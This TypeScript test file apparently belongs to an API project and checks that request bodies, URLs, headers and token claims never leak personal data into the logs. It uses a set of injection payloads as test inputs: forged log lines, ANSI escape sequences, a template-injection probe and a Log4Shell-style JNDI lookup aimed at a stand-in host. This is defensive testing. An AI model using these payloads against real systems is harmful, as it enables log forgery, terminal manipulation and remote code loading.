/** Words that must not be logged, typed wherever something can be typed, and lines that would look like the log's own. */
import { randomUUID } from 'node:crypto';
import pg from 'pg';
import type { TestApi } from '#support/api';
import { REQUEST_BY_API } from '#support/by-api';
import { TYPED, TYPED_DAY, wrongLines } from './quiet.js';
import { requestOf, sendRaw } from './raw.js';
import { addressOf, fieldsOf, type Target, WHOLE, withValue } from './surface.js';
import { underAttack } from './under-attack.js';

let api: TestApi;
let move: string;
let targets: readonly Target[];
beforeAll(async () => void ({ api, move, targets } = await underAttack()), 60_000);
afterAll(() => api.close());
beforeEach(() => void (api.log.length = 0));

/** Looks like a line of the log, and like a command to a terminal that shows it. */
const FORGED = [
  `${TYPED}\n{"level":30,"msg":"Answered.","status":200}`,
  `${TYPED}\r\n\u001b[2J\u001b[31mAll is well\u001b[0m`,
  `${TYPED}\u0000\u0007\u0008\u2028\u2029\u0085`,
  `${TYPED} %s %o %j \${jndi:ldap://evil.example/x} {{7*7}}`,
];
const WORDS = `Born on ${TYPED_DAY}, ${TYPED} lives at 1 Nowhere Street`;

/** What was taken as somebody's words in a body may stand in no address: there it is typed a little otherwise. */
const IN_ADDRESSES = [WORDS, ...FORGED].map((text) => text.replace(TYPED, `${TYPED}-there`));

const isClean = (): void => {
  expect(wrongLines(api.log)).toEqual([]);
  expect(api.log.length).toBeGreaterThan(0);
};

it('sees what is wrong with a line, where there is something', () => {
  const lines = [`{"msg":"${TYPED}"}\n`, '{"msg":"a"}\n{"msg":"b"}\n', '{"msg":"\u001b[2J"}\n', '"text"\n', '{"msg":"Answered."}\n'];
  expect(wrongLines(lines)).toEqual(lines.slice(0, -1));
});

it('says nothing of what stands in any field of any body', async () => {
  for (const target of targets.filter(({ body }) => body))
    for (const [n, { at }] of fieldsOf(target.body!.schema).entries())
      for (const value of WHOLE ? [WORDS, ...FORGED] : [[WORDS, ...FORGED][n % 5]])
        await api.post('padmin', addressOf(target, { path: { move } }), withValue(target.body!.example, at, value));
  isClean();
}, 300_000);

it('says nothing of what stands in any part of any address', async () => {
  for (const target of targets.filter(({ method }) => method === 'GET'))
    for (const value of IN_ADDRESSES) {
      const named = target.parameters.map(({ in: place, name }) => ({ place, name }));
      for (const { place, name } of [...named, { place: 'query', name: value }, { place: 'query', name: 'to' }]) {
        const filled = place === 'path' ? { path: { move, [name]: value } } : { path: { move }, query: { [name]: value } };
        const headers = { authorization: `Bearer ${await api.token('dcs')}` };
        await fetch(`${api.url}${addressOf(target, filled)}`, { headers, redirect: 'manual' }).then((answer) => answer.arrayBuffer());
      }
    }
  isClean();
});

it('says nothing of what stands in any line of a head', async () => {
  const bearer = `Bearer ${await api.token('sw')}`;
  const names =
    'Authorization Cookie Idempotency-Key If-Match Content-Type Accept User-Agent Referer Origin X-Request-Id traceparent X-CSRF-Token';
  for (const name of [...names.split(' '), 'Content-Encoding', 'X-Forwarded-For', 'Host', TYPED])
    for (const value of [WORDS, `${TYPED}\u001b[2J`, `Bearer ${TYPED}.${TYPED}.${TYPED}`, `__Host-homeward=${TYPED.padEnd(43, 'a')}`]) {
      const usual = {
        Host: 'x',
        Authorization: bearer,
        'Content-Type': 'application/json',
        'Idempotency-Key': randomUUID(),
        [name]: value,
      };
      const lines = Object.entries({ ...usual, 'Content-Length': '2' }).map(([key, said]) => `${key}: ${said}`);
      await sendRaw(api.server.port, requestOf(`POST /api/moves/${move}/send-request HTTP/1.1`, lines, '{}'));
    }
  isClean();
});

it('says nothing of what a token says, but for ids of people and programs', async () => {
  const headers = async (claims: Parameters<typeof api.issuer.token>[1]) => ({
    authorization: `Bearer ${await api.issuer.token('sw', claims)}`,
  });
  for (const value of [WORDS, ...FORGED])
    for (const claims of [
      { subject: value },
      { more: { name: value, email: value, client_id: value, azp: value, scope: value, auth_time: value } },
      { subject: 'sw', more: { client_id: 'sw', scope: `read ${value}`, roles: [value], given_name: value } },
    ])
      await api.send(undefined, `/api/moves/${move}`, { headers: await headers(claims) });
  isClean();
});

it('says where a fault of ours lies, and nothing of what was being written when it came', async () => {
  const client = new pg.Client({ connectionString: api.test.database.ownerUrl });
  await client.connect();
  const forbids = `alter table record.narrative add constraint no_more check (false) not valid`;
  await client.query(forbids);
  const { status, body } = await api.post('sw', `/api/moves/${move}/send-request`, { ...REQUEST_BY_API, reasons: WORDS });
  await client.query('alter table record.narrative drop constraint no_more');
  await client.end();
  expect(status).toBe(500);
  expect(JSON.stringify(body)).not.toMatch(new RegExp(`${TYPED}|narrative|no_more|constraint`));
  expect(api.faults()).toHaveLength(1);
  isClean();
});
